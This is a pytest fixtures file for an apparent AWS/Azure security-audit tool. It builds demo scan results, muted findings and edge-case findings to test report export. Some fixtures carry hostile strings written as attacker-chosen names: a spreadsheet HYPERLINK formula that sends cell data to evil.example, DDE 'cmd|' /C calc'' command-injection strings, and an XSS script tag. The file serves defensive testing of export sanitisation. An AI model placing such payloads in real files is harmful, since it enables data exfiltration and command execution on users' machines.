"""Scan results to export: the real demo scan (through the CLI), the same scan with exceptions applied,
and a hand-made result with every status, muted findings and attacker-chosen names."""

from __future__ import annotations

import os
from datetime import UTC, date, datetime
from pathlib import Path

import pytest
from typer.testing import CliRunner

from auditor.benchmarks import load_benchmark
from auditor.engine import build_scan_result
from auditor.exceptions import parse_exceptions
from auditor.model import Finding, Mute, Severity, Status, finding_id
from auditor.scan_result import ScanResult, ScanScope
from auditor.scoring import score_benchmark
from auditor.snapshot import read_snapshot

ACCOUNT = "123456789012"
FINISHED = datetime(2026, 11, 2, 9, 30, 15, 123456, tzinfo=UTC)


@pytest.fixture(scope="session")
def demo_files(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    """Run `auditor demo` once (the real collector against moto) and return (scan JSON, snapshot)."""
    from auditor.cli.main import app

    workdir = tmp_path_factory.mktemp("demo-export")
    scan, snapshot = workdir / "demo-scan.json", workdir / "demo-snapshot.json"
    before = os.getcwd()
    os.chdir(workdir)
    try:
        outcome = CliRunner().invoke(
            app,
            [
                "demo",
                "-q",
                "--no-history",
                "--json",
                str(scan),
                "--snapshot",
                str(snapshot),
                "--pdf",
                str(workdir / "demo-report.pdf"),
            ],
        )
    finally:
        os.chdir(before)
    # Exit 3 (something FAILs) is the demo's normal outcome; only the written scan matters here.
    assert scan.exists(), (outcome.exit_code, outcome.output, outcome.exception)
    return scan, snapshot


@pytest.fixture(scope="session")
def demo_result(demo_files: tuple[Path, Path]) -> ScanResult:
    return ScanResult.model_validate_json(demo_files[0].read_text(encoding="utf-8"))


EXCEPTIONS_YAML = """
exceptions:
  - id: legacy-admin-ports
    check: aws.ec2.sg_no_admin_ports_ipv4
    account: "123456789012"
    owner: alice@example.com
    reason: "Bastion hosts replaced in Q1"
    expires: 2027-03-31
  - id: eu-guardduty
    check: "aws.guardduty.*"
    account: "123456789012"
    region: eu-west-1
    owner: bob@example.com
    reason: "Region being decommissioned"
    expires: 2027-01-31
"""


@pytest.fixture(scope="session")
def demo_muted_result(demo_files: tuple[Path, Path]) -> ScanResult:
    """The demo inventory evaluated again offline with two exceptions, scored like the demo."""
    snapshot = read_snapshot(demo_files[1])
    return build_scan_result(
        snapshot.inventories,
        started_at=FINISHED,
        finished_at=FINISHED,
        source="snapshot",
        benchmarks=[load_benchmark("cis-aws-7.0"), load_benchmark("module4-baseline")],
        exceptions=parse_exceptions(EXCEPTIONS_YAML, "exceptions.yaml"),
        today=date(2026, 11, 2),
    )


def make_finding(
    check_id: str,
    status: Status,
    *,
    region: str = "eu-west-1",
    resource_id: str = "vpc-0abc",
    resource_name: str = "",
    message: str = "a message",
    account: str = ACCOUNT,
    provider: str = "aws",
    severity: Severity = Severity.MEDIUM,
    muted: Mute | None = None,
    tags: dict[str, str] | None = None,
) -> Finding:
    return Finding(
        id=finding_id(provider, account, region, check_id, resource_id),
        check_id=check_id,
        provider=provider,
        service=check_id.split(".")[1],
        severity=severity,
        status=Status.MUTED if muted else status,
        account=account,
        region=region,
        resource_id=resource_id,
        resource_name=resource_name,
        message=message,
        tags=tags or {},
        muted=muted,
    )


def mute(original: Status, owner: str = "alice@example.com") -> Mute:
    return Mute(
        exception_id="legacy-vpc",
        owner=owner,
        reason="Decommissioned in Q1",
        expires=date(2027, 3, 31),
        original_status=original,
    )


HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def make_result(findings: list[Finding], *, with_benchmarks: bool = True) -> ScanResult:
    benchmarks = [score_benchmark(load_benchmark("cis-aws-7.0"), findings)] if with_benchmarks else []
    return ScanResult(
        tool_version="0.1.0",
        started_at=FINISHED.replace(second=0),
        finished_at=FINISHED,
        source="snapshot",
        scopes=[
            ScanScope(provider="aws", account=ACCOUNT, regions=["eu-west-1", "us-east-1"]),
            ScanScope(provider="aws", account="210987654321", regions=["eu-west-1"]),
        ],
        inventory_hash="sha256:" + "0" * 64,
        api_calls=1,
        findings=findings,
        benchmarks=benchmarks,
    )


@pytest.fixture
def edge_findings() -> list[Finding]:
    """Every status, muted findings, attacker-chosen names, a second account, a check this version
    does not know, and a non-AWS finding."""
    return [
        make_finding(
            "aws.vpc.flow_logs_enabled", Status.FAIL, resource_id="vpc-0fail", message="no flow log"
        ),
        make_finding(
            "aws.vpc.flow_logs_enabled",
            Status.FAIL,
            resource_id="vpc-0muted",
            muted=mute(Status.FAIL),
            message="no flow log (accepted)",
        ),
        make_finding("aws.vpc.flow_logs_enabled", Status.PASS, resource_id="vpc-0pass", region="us-east-1"),
        make_finding(
            "aws.ec2.sg_no_admin_ports_ipv4",
            Status.FAIL,
            resource_id="sg-0hostile",
            resource_name=HOSTILE,
            message=f"+cmd|' /C calc'!A0 opens 22 to 0.0.0.0/0 on {HOSTILE}",
            tags={"Name": "@SUM(1+1)*cmd|' /C calc'!A0", "owner": "-team"},
        ),
        make_finding(
            "aws.ec2.sg_no_admin_ports_ipv6",
            Status.PASS,
            resource_id="sg-0unicode",
            resource_name='Ünïcødé <script>alert(1)</script> & "quotes" \u202e\u2603 \x07bell',
            message="naïve café 🚀 <b>bold</b>",
        ),
        make_finding(
            "aws.guardduty.enabled_all_regions",
            Status.ERROR,
            resource_id=f"arn:aws:guardduty:eu-west-1:{ACCOUNT}:detector",
            message="Not evaluated: guardduty:ListDetectors in eu-west-1 was denied (AccessDenied)",
            severity=Severity.HIGH,
        ),
        make_finding(
            "aws.vpc.peering_routes_least_access",
            Status.MANUAL,
            resource_id="vpc-0manual",
            message="Review the peering routes by hand",
        ),
        make_finding(
            "aws.vpc.endpoints_for_aws_services",
            Status.NOT_APPLICABLE,
            resource_id=f"arn:aws:ec2:eu-west-1:{ACCOUNT}:vpc",
            message="No VPC in eu-west-1",
            severity=Severity.LOW,
        ),
        make_finding(
            "aws.cloudtrail.multi_region_trail_logging",
            Status.PASS,
            region="global",
            resource_id=ACCOUNT,
            severity=Severity.CRITICAL,
        ),
        make_finding(
            "aws.guardduty.s3_protection_enabled",
            Status.FAIL,
            account="210987654321",
            resource_id="arn:aws:guardduty:eu-west-1:210987654321:detector/abc",
            muted=mute(Status.FAIL, owner="carol@example.com"),
        ),
        make_finding(
            "aws.future.unknown_check",
            Status.FAIL,
            resource_id="i-0123456789abcdef0",
            account="210987654321",
            severity=Severity.INFO,
        ),
        make_finding(
            "azure.monitor.activity_log_alerts",
            Status.FAIL,
            provider="azure",
            account="00000000-0000-0000-0000-000000000001",
            region="westeurope",
            resource_id="/subscriptions/00000000-0000-0000-0000-000000000001",
        ),
    ]


@pytest.fixture
def edge_result(edge_findings: list[Finding]) -> ScanResult:
    return make_result(edge_findings)
